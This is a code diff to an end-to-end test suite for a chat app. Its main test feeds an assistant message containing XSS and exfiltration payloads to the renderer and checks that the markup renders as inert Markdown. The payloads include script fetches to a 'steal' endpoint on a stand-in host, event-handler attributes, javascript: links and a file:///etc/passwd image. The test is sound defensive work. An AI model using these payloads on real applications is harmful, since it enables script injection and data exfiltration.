@@ -17,9 +17,19 @@ describe('Chat screen', () => {
     const { page, bridge } = session;
     const { services } = bridge;
     await services.models.import(fixtureModel('tiny-chat'), 'reference');
-    const collection = services.library.createCollection('Mac pages');
-    services.library.addFolder(collection.id, OSX);
-    await services.library.index(collection.id);
+    // The corpus folder is added and indexed on the Library screen, as a user would.
+    await page.getByLabel('Collection name').fill('Mac pages');
+    await page.getByRole('button', { name: 'Create' }).click();
+    const card = page.getByTestId('collection');
+    await card.getByLabel('Folder path').fill(OSX);
+    await card.getByRole('button', { name: 'Add', exact: true }).click();
+    await card.getByText(OSX).waitFor();
+    await card.getByRole('button', { name: 'Index now' }).click();
+    await card.getByTestId('index-progress').waitFor();
+    await card.getByRole('button', { name: 'Index now' }).waitFor({ timeout: 120_000 });
+    const collection = services.library.collections().find((c) => c.name === 'Mac pages')!;
+    await expect.poll(() => services.library.collections()[0]!.report.pending).toBe(0);
+    expect(collection.report.indexed).toBeGreaterThan(100);
     // Long answers (the tiny model writes ~1,000 tokens a second), so there is time to watch and stop.
     const chat = services.chat.create({
       collectionIds: [collection.id],
@@ -123,28 +133,74 @@ describe('Chat screen', () => {
     expect(session.errors).toEqual([]);
   }, 180_000);
 
-  it('shows an answer full of hostile markup as inert text and fetches nothing', async () => {
+  it('renders an answer as Markdown, and hostile markup in it inert: nothing runs and nothing is fetched', async () => {
     const session = await app.open(tempDir(), '/library');
     const { page, bridge } = session;
     const db = bridge.services.store.hearth;
     const chat = bridge.services.chat.create();
     const question = addMessage(db, { conversationId: chat.id, parentId: null, role: 'user', content: 'hi' });
+    const remote = 'http://203.0.113.9';
     addMessage(db, {
       conversationId: chat.id,
       parentId: question.id,
       role: 'assistant',
-      content:
-        '![x](http://203.0.113.9/pixel.png) <img src="http://203.0.113.9/a.png" onerror="alert(1)"> ' +
-        '<script>fetch("http://203.0.113.9/steal")</script> [click](javascript:alert(2)) ' +
-        '<a href="javascript:alert(3)">link</a> <iframe src="http://203.0.113.9/"></iframe> <b onmouseover="alert(4)">bold</b>',
+      content: [
+        '## Steps',
+        '',
+        'Run **caffeinate** with `-i`, and $$e^{i\\pi}+1=0$$ holds.',
+        '',
+        '```sh',
+        'caffeinate -i make build',
+        '```',
+        '',
+        `![pixel](${remote}/pixel.png) ![local](file:///etc/passwd) ![inline](data:image/png;base64,iVBORw0KGgo=)`,
+        `<img src="${remote}/a.png" onerror="alert(1)"> <svg onload="alert(2)"><image href="${remote}/s.png"/></svg>`,
+        `<script>fetch("${remote}/steal")</script> <iframe src="${remote}/"></iframe> <object data="${remote}/o"></object>`,
+        `<link rel="stylesheet" href="${remote}/x.css"> <style>body{background:url(${remote}/bg.png)}</style>`,
+        `<video src="${remote}/v.mp4" autoplay></video> <audio src="${remote}/a.mp3" autoplay></audio>`,
+        `<meta http-equiv="refresh" content="0;url=${remote}/"> <form action="${remote}/f"><input autofocus onfocus="alert(3)"></form>`,
+        `[click](javascript:alert(4)) <a href="javascript:alert(5)">js link</a> <a href="${remote}/page">a web page</a>`,
+        `<b onmouseover="alert(6)" style="background:url(${remote}/b.png)">bold</b>`,
+      ].join('\n'),
+    });
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
     });
     await page.goto(`${bridge.url}#/chat`);
     const message = page.locator('[data-testid="message"][data-role="assistant"]');
-    await message.waitFor();
-    expect(await message.locator('img, script, iframe, a, b').count()).toBe(0);
-    expect(await message.textContent()).toContain('<script>fetch("http://203.0.113.9/steal")</script>');
+    // Markdown, highlighted code and math render.
+    await message.getByRole('heading', { name: 'Steps' }).waitFor();
+    expect(await message.locator('strong, [data-streamdown="strong"]').first().textContent()).toBe('caffeinate');
+    await message.locator('[data-streamdown="code-block"] pre span[style*="--sdm-c"]').first().waitFor();
+    expect(await message.locator('.katex').count()).toBeGreaterThan(0);
+    // Nothing that can fetch or run survives.
+    expect(
+      await message
+        .locator(
+          'img, image, svg[onload], script, iframe, object, link, style, video, audio, meta, form, input:not([type=checkbox][disabled])',
+        )
+        .count(),
+    ).toBe(0);
+    expect(await message.locator('a[href^="javascript"]').count()).toBe(0);
+    const handlers = await message.evaluate((root) =>
+      [...root.querySelectorAll('*')].flatMap((element) =>
+        [...element.attributes]
+          .filter((a) => a.name.startsWith('on') || (a.name === 'style' && a.value.includes('url(')))
+          .map((a) => `${element.tagName} ${a.name}`),
+      ),
+    );
+    expect(handlers).toEqual([]);
+    // A web link is shown, and clicking it copies its address instead of leaving the app.
+    const link = message.getByRole('link', { name: 'a web page' });
+    expect(await link.getAttribute('href')).toBe(`${remote}/page`);
+    await link.click();
+    await message.getByText('bold').hover();
     await page.waitForTimeout(500);
     await screenshot(page, 'chat-hostile-markup');
+    expect(page.url()).toContain('#/chat');
+    expect(dialogs).toEqual([]);
     const origin = new URL(bridge.url).origin;
     expect(session.requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
     expect(session.errors).toEqual([]);
